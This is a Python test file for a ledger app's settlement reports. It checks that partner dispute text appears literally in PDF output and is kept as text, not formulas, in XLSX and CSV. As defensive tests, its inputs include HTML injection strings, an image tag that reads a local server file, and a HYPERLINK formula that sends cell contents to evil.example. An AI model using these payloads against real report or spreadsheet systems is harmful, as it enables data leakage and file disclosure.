"""Partner text in the settlement reports is data: never markup in the PDF (HTML for WeasyPrint, ReportLab's
for the fallback), never a formula in XLSX or CSV."""

import csv
import io
import zipfile
from pathlib import Path

import pytest
import werkzeug
from openpyxl import load_workbook
from pypdf import PdfReader

from ledger.settlement import reports
from tests.settlement.test_settlement import GB_AL, books  # noqa: F401 (the fixture)

SERVER_PNG = Path(werkzeug.__file__).parent / "debug" / "shared" / "less.png"  # a file the server can read
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _dispute(api, officer, books, reason: str) -> None:  # noqa: F811
    """AL disputes March's statement with `reason`: it carries into April's open items."""
    api.post("/api/v1/settlements/2026-03/close", token=officer)
    doc = api.get(f"/api/v1/settlements/2026-03?agreement={GB_AL}", token=books["AL"]).get_json()["documents"][0]
    body = {"agreement": GB_AL, "digest": doc["digest"], "accepted": False, "reason": reason,
            "disputed_lines": [{"line": "accrued", "reason": "see the reason"}]}
    made = api.post("/api/v1/settlements/2026-03/acknowledgements", json=body, token=books["AL"])
    assert made.status_code == 201, made.get_json()


def _pdf_text(pdf: bytes) -> str:
    """The PDF's text as a reader extracts it (WeasyPrint's tagged PDF or ReportLab's fallback alike)."""
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


def _links_and_images(pdf: bytes) -> list:
    """Every link annotation and every embedded image of the PDF."""
    pages = PdfReader(io.BytesIO(pdf)).pages
    links = [a.get_object() for page in pages for a in page.get("/Annots") or [] if "/A" in a.get_object()]
    return links + [image for page in pages for image in page.images]


@pytest.mark.parametrize("reason", [
    "<img src=x onerror=1>",
    '<a href="http://evil.example/">click</a>',
    f'<img src="{SERVER_PNG}" width="10" height="10"/>',
    "fees & <b>charges</b",
])
def test_pdf_shows_partner_text_literally(api, officer, books, reason):  # noqa: F811
    _dispute(api, officer, books, reason)
    response = api.get("/api/v1/settlements/2026-04/report?format=pdf", token=officer)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    pdf = response.get_data()
    assert _links_and_images(pdf) == []  # no live link, no embedded file
    # shown as the text it is, character for character (a long word may wrap inside its table cell)
    assert "".join(reason.split()) in "".join(_pdf_text(pdf).split())


def test_xlsx_stores_a_formula_looking_reason_as_text(api, officer, books):  # noqa: F811
    _dispute(api, officer, books, HYPERLINK)
    response = api.get("/api/v1/settlements/2026-04/report?format=xlsx", token=officer)
    book = load_workbook(io.BytesIO(response.get_data()))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
    assert cells, "the reason is in the report"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_csv_neutralises_formula_starts_but_keeps_numbers():
    line = {"agreement_id": 7, "reference": "=1+1", "payer": "@SUM(A1)", "payee": "+AL", "currency": "\tGBP",
            "opening": "-500.00", "accrued": "12.50", "adjustments": "-1", "invoiced": "0", "approved": "0",
            "paid": "0", "closing": "-488.50"}
    view = {"period": "2026-04", "status": "open",
            "statement": {"period": "2026-04", "agreements": [line], "open_items": {}}}
    archive = zipfile.ZipFile(io.BytesIO(reports.to_csv(view)))
    rows = list(csv.DictReader(io.StringIO(archive.read("agreements.csv").decode())))
    assert (rows[0]["reference"], rows[0]["payer"], rows[0]["payee"], rows[0]["currency"]) == \
        ("'=1+1", "'@SUM(A1)", "'+AL", "'\tGBP")
    assert (rows[0]["opening"], rows[0]["adjustments"], rows[0]["closing"]) == ("-500.00", "-1", "-488.50")
